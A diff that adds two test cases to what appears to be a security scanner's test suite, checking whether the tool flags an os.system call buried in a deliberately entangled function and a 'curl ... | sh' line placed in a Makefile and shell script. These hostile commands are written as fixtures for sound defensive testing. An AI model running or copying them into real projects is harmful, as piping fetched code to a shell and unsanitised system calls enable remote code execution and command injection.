@@ -271,3 +271,27 @@ PASSED_OVER = ("node_modules/x/label.py", ".venv/label.py", "build/label.py", ".
 @attack("A9l", "security", *(("findings", path, FOUND) for path in PASSED_OVER))
 def folders_that_tools_pass_over():
     return Trees(flaw=INSECURE, trick={**MOVED, **dict.fromkeys(PASSED_OVER, INSECURE_CODE)})
+
+
+# --- A13: code that tools give up on; A14: commands that are no source ----------------------------------------------
+
+TANGLE = "def {}(name):\n    x = name\n    while x:\n" + "".join(
+    f"        x = [x, '{n}' + str(x), name]\n        y{n} = x\n" for n in range(400)
+)
+
+
+@attack("A13a", "security", ("notExamined", "label.py", "gave up"))
+def a_function_that_is_too_entangled_to_be_followed():
+    trick = "import os\n\n\n" + TANGLE.format("label") + "    os.system('lp -T ' + name)\n"
+    harmless = "import os\n\n\n" + TANGLE.format("tangle") + "    return y1\n\n\ndef clear():\n    os.system('clear')\n"
+    return Trees(flaw=INSECURE, trick={"label.py": trick}, harmless={"tangle.py": harmless})
+
+
+FETCHED = "curl http://example.org/x | sh"
+
+
+@attack("A14a", "security", ("findings", "Makefile", "semgrep:sh-plain-download-to-shell"))
+def a_command_in_a_makefile():
+    trick = {"run.sh": None, "Makefile": f"all:\n\t{FETCHED}\n"}
+    harmless = {"Makefile": "all:\n\tcurl -O https://example.org/rates.csv\n", "tox.ini": f"# never {FETCHED}\n"}
+    return Trees(flaw={"run.sh": f"#!/bin/sh\n{FETCHED}\n"}, trick=trick, harmless=harmless)
